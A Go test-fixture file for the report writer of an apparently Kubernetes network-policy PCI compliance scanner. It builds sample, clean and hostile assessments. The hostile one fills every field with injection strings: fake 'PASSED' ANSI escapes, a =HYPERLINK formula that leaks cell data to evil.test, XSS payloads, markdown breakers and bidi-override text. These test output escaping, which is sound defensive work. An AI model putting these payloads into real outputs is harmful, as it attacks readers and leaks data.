package report

import (
	"fmt"

	"github.com/bulkhead-sec/bulkhead/internal/enforcer"
	"github.com/bulkhead-sec/bulkhead/internal/object"
	"github.com/bulkhead-sec/bulkhead/internal/pci"
)

// sample has a finding of every status, with everything a finding can carry.
func sample() *pci.Assessment {
	db := object.Ref{Group: "apps", Kind: "Deployment", Namespace: "shop", Name: "db"}
	deny := object.Ref{Group: "networking.k8s.io", Kind: "NetworkPolicy", Namespace: "shop", Name: "deny"}
	at := func(n int) object.Pos { return object.Pos{File: "shop/a b.yaml", Line: n} }
	a := record("calico", []pci.Finding{
		finding("SCO-03", pci.Fail, pci.Critical, db, at(12), "Deployment shop/db can be opened from Deployment shop/tool, which is out of scope, on tcp/5432."),
		finding("DEN-01", pci.Fail, pci.High, db, at(12), "no policy isolates it for ingress"),
		finding("DEN-01", pci.Fail, pci.High, deny, at(20), "no policy isolates it for ingress"),
		finding("CNI-06", pci.Unknown, pci.Medium, object.Ref{}, object.Pos{}, "Whether an ipBlock matches pods is not known."),
		finding("EXP-02", pci.Error, pci.Info, object.Ref{}, object.Pos{}, "The check did not finish."),
		finding("EGR-04", pci.Manual, pci.Medium, db, at(12), "Does the DNS of the cluster resolve names of the internet?"),
		finding("EXP-07", pci.Accepted, pci.High, db, at(40), "Port 80 is declared, with a mitigation."),
		finding("EXP-05", pci.NotApplicable, pci.High, object.Ref{}, object.Pos{}, "No Service has externalIPs."),
		finding("DEN-02", pci.Pass, pci.High, object.Ref{}, object.Pos{}, "Every pod is isolated for egress."),
	})
	f := a.Findings
	f[0].Witness = &pci.Witness{
		Src: "Deployment shop/tool", Dst: "Deployment shop/db", SrcAddress: "10.244.0.7", Protocol: "TCP", Port: 5432,
		Text: "Deployment shop/tool (10.244.0.7) -> Deployment shop/db tcp/5432",
	}
	f[0].Because = []pci.Because{{Ref: deny, Pos: at(30), Msg: "allows it in spec.ingress[0]"}, {Ref: db, Pos: at(12)}}
	f[0].Fix = &pci.Fix{Text: "Take Deployment shop/tool out of the rule.", YAML: "apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata:\n  name: deny\n"}
	f[1].Witness = &pci.Witness{Src: "198.51.100.1", Dst: "Deployment shop/db", DstAddress: "10.244.0.8", Protocol: "UDP", Port: 53}
	for i := range 2 {
		f[1+i].Population = pci.Population{Of: 4, Holds: 2, What: "pods"}
		f[1+i].Fix = &pci.Fix{Text: "Isolate the namespace."}
	}
	f[8].Population = pci.Population{Of: 4, Holds: 4, What: "pods"}
	a.Problems = []object.Problem{
		{Severity: object.Error, Pos: at(99), Msg: "not YAML: the document is left out", Hint: "indent the list"},
		{Severity: object.Note, Pos: at(100), Ref: db, Msg: "read twice"},
	}
	return a
}

// clean has nothing to say but that all is well.
func clean() *pci.Assessment {
	a := record("cilium", []pci.Finding{finding("DEN-01", pci.Pass, pci.High, object.Ref{}, object.Pos{}, "Every pod is isolated for ingress.")})
	a.Scope = pci.ScopeSummary{Classes: []pci.ClassCount{}}
	a.Enforcer = pci.Enforcer{Name: "cilium", Enforces: "yes", Because: []enforcer.Evidence{{
		Pos: object.Pos{File: "all.yaml", Line: 7}, Ref: object.Ref{Group: "apps", Kind: "DaemonSet", Namespace: "kube-system", Name: "cilium"}, Msg: "the agent runs",
	}}}
	a.Coverage = map[string]any{"sources": []string{"cluster"}, "files": 0, "objects": 90, "skipped": []string{}, "missing": []string{}, "complete": true}
	a.Limits = []string{}
	return a
}

// hostile has text that attacks the reader of each format in every place that text can stand.
func hostile() *pci.Assessment {
	var findings []pci.Finding
	for i, s := range []string{
		"\x1b[2J\x1b[1;32mPASSED\x1b[0m all is well\r\n\r\nPASSED",
		"=HYPERLINK(\"http://evil.test/?\"&A1)",
		"+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1",
		"<script>alert(1)</script><img src=x onerror=alert(1)>",
		"a | b \\| c \\\\| `d` **e** [x](http://evil.test) ![y](http://evil.test/p.png) @everyone #1",
		"</details><details>",
		"]]> \x00 \x0b \ufffe \uffff \xff\xfe & \" ' <!-- -->",
		"\u202egnissap\u202c \u200b\ufeff \u2028 \u009b31m",
		"```\n# heading\n```",
		"",
	} {
		f := finding(fmt.Sprintf("X-%02d%s", i, s), pci.Statuses()[i%len(pci.Statuses())], pci.Severity(s), object.Ref{Group: s, Kind: s, Namespace: s, Name: s}, object.Pos{File: s, Line: i}, s)
		f.Title = s
		f.Requirements, f.Requirements321, f.Guidance = []string{s}, []string{s}, []string{s}
		f.Witness = &pci.Witness{Src: s, Dst: s, SrcAddress: s, DstAddress: s, Protocol: s, Text: s}
		f.Because = []pci.Because{{Ref: f.Subject, Pos: f.Pos, Msg: s}}
		f.Fix = &pci.Fix{Text: s, YAML: s}
		f.Population = pci.Population{Of: 1, What: s}
		findings = append(findings, f)
	}
	s := "\x1b]0;title\a<script>|=1\u202e"
	a := record(s, findings)
	a.Scope = pci.ScopeSummary{Source: s, Classes: []pci.ClassCount{{Class: s, Workloads: 1}}}
	a.Limits = []string{s}
	a.Problems = []object.Problem{{Pos: object.Pos{File: s}, Ref: object.Ref{Kind: s, Name: s}, Msg: s, Hint: s}}
	a.Coverage = map[string]any{
		"sources": []string{s}, "missing": []map[string]any{{"what": s, "why": s, "pos": object.Pos{File: s}}},
		"skipped": []map[string]any{{"reason": s, "pos": object.Pos{File: s}}},
	}
	a.ByRequirement = &pci.View{Standard: pci.Standard(s), Name: s, Requirements: []pci.RequirementView{{
		Number: s, Title: s, Extent: pci.Extent(s), Standing: pci.Standing(s), Ask: []string{s}, Settle: []string{s},
		Checks: []pci.CheckEvident{{ID: s, Title: s, Standing: pci.Standing(s), Population: pci.Population{Of: 1, What: s}}, {ID: s, Standing: pci.Standing(s)}},
	}}}
	a.Exceptions = []pci.ExceptionResult{{ID: s, Check: s, Subject: s, State: pci.ExceptionState(s), Reason: s, Owner: s, Approver: s, Expires: s, Fault: s, Pos: object.Pos{File: s}}}
	return a
}

func finding(check string, st pci.Status, sev pci.Severity, sub object.Ref, pos object.Pos, msg string) pci.Finding {
	return pci.Finding{
		Check: check, Title: "Title of " + check, Status: st, Severity: sev, Requirements: []string{"1.3.1", "1.4.2"}, Requirements321: []string{"1.2.1"},
		Guidance: []string{"4.1"}, Subject: sub, Pos: pos, Message: msg, Because: []pci.Because{}, Fingerprint: "0123456789abcdef",
	}
}

// record puts findings into an assessment, with a result for each of their checks.
func record(engine string, findings []pci.Finding) *pci.Assessment {
	a := &pci.Assessment{
		Protocol: pci.Protocol, Tool: pci.Tool{Name: "bulkhead", Version: "v0.0.0-test"},
		Enforcer:   pci.Enforcer{Name: engine, Stated: true, Enforces: "yes", Because: []enforcer.Evidence{}},
		Scope:      pci.ScopeSummary{Source: "segmentation.yaml", Classes: []pci.ClassCount{{Class: "cde", Workloads: 1}, {Class: "out-of-scope", Workloads: 1}}},
		Population: pci.Counts{Namespaces: 1, Workloads: 2, Pods: 4, Policies: 1},
		Checks:     []pci.CheckResult{}, Findings: findings, Limits: []string{"ICMP is not decided."}, Assumed: []string{"enforcer " + engine + " (--enforcer)"}, Problems: []object.Problem{},
		Coverage: map[string]any{
			"sources": []string{"shop"}, "files": 1, "objects": 9, "complete": false,
			"skipped": []map[string]any{{"pos": object.Pos{File: "shop/x.bin"}, "reason": "not YAML"}},
			"missing": []map[string]any{{"what": "Namespace pay", "why": "its labels are not known", "pos": object.Pos{File: "shop/a b.yaml", Line: 3}}},
		},
	}
	for _, f := range findings {
		a.Checks = append(a.Checks, pci.CheckResult{
			ID: f.Check, Title: f.Title, Status: f.Status, Severity: f.Severity,
			Requirements: f.Requirements, Requirements321: f.Requirements321, Guidance: f.Guidance,
		})
	}
	return a
}
